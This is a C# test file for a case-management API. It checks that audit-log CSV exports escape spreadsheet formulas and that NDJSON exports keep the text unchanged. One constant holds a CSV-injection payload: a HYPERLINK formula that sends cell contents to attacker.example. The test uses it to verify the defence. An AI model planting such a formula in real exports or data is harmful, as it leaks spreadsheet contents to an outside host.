using System.Net;
using System.Text.Json.Nodes;
using CaseManagement.Api.Tests.AccessLog;
using CaseManagement.Api.Tests.Infrastructure;
using CaseManagement.Api.Tests.Victims;

namespace CaseManagement.Api.Tests.Security;

/// <summary>An export must not attack the auditor who opens it in a spreadsheet.</summary>
public sealed class CsvInjectionTests
{
    private const string FormulaPurpose = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Mở hồ sơ\")";

    [Test]
    public async Task A_formula_typed_as_a_disclosure_purpose_is_exported_as_text_in_CSV_and_exactly_in_NDJSON()
    {
        using var factory = new ApiFactory();
        var caseId = await VictimKit.CaseWithInvestigator(factory);
        var victimId = (string)(await VictimKit.Add(factory, caseId))["id"]!;
        await (await factory.ClientFor(Users.Investigator).PostJson($"/api/v1/victims/{victimId}/identity-disclosures",
            new { purpose = FormulaPurpose })).ShouldBe(HttpStatusCode.OK);
        var auditor = factory.ClientFor(Users.Auditor);

        var csv = await (await auditor.GetAsync("/api/v1/audit/export?format=csv&action=victim.identity.disclose")).Content.ReadAsStringAsync();
        var rows = AuditApiTests.ParseCsv(csv);
        var purposeColumn = rows[0].IndexOf("purpose");
        var cell = rows.Skip(1).Single()[purposeColumn];
        Assert.That(cell, Is.EqualTo("'" + FormulaPurpose), "a spreadsheet opens it as text, not as a formula");
        foreach (var row in rows.Skip(1))
        {
            Assert.That(row.Where(c => c.Length > 0).Select(c => c[0]), Has.None.AnyOf('=', '+', '-', '@', '\t', '\r'));
        }

        var ndjson = await (await auditor.GetAsync("/api/v1/audit/export?format=ndjson&action=victim.identity.disclose")).Content.ReadAsStringAsync();
        var entry = JsonNode.Parse(ndjson.Split('\n', StringSplitOptions.RemoveEmptyEntries).Single())!;
        Assert.That((string?)entry["purpose"], Is.EqualTo(FormulaPurpose), "NDJSON keeps the exact text");
    }

    [TestCase("=1+1", "'=1+1")]
    [TestCase("+1", "'+1")]
    [TestCase("-2", "'-2")]
    [TestCase("@SUM(A1)", "'@SUM(A1)")]
    [TestCase("\tx", "'\tx")]
    [TestCase("\rx", "\"'\rx\"")]
    [TestCase("an ordinary purpose", "an ordinary purpose")]
    [TestCase("a = b", "a = b")]
    public void Cells_that_a_spreadsheet_reads_as_formulas_start_with_a_quote(string value, string expected) =>
        Assert.That(CaseManagement.Api.Features.Audit.ExportAuditEntries.AuditCsv.Field(value), Is.EqualTo(expected));
}
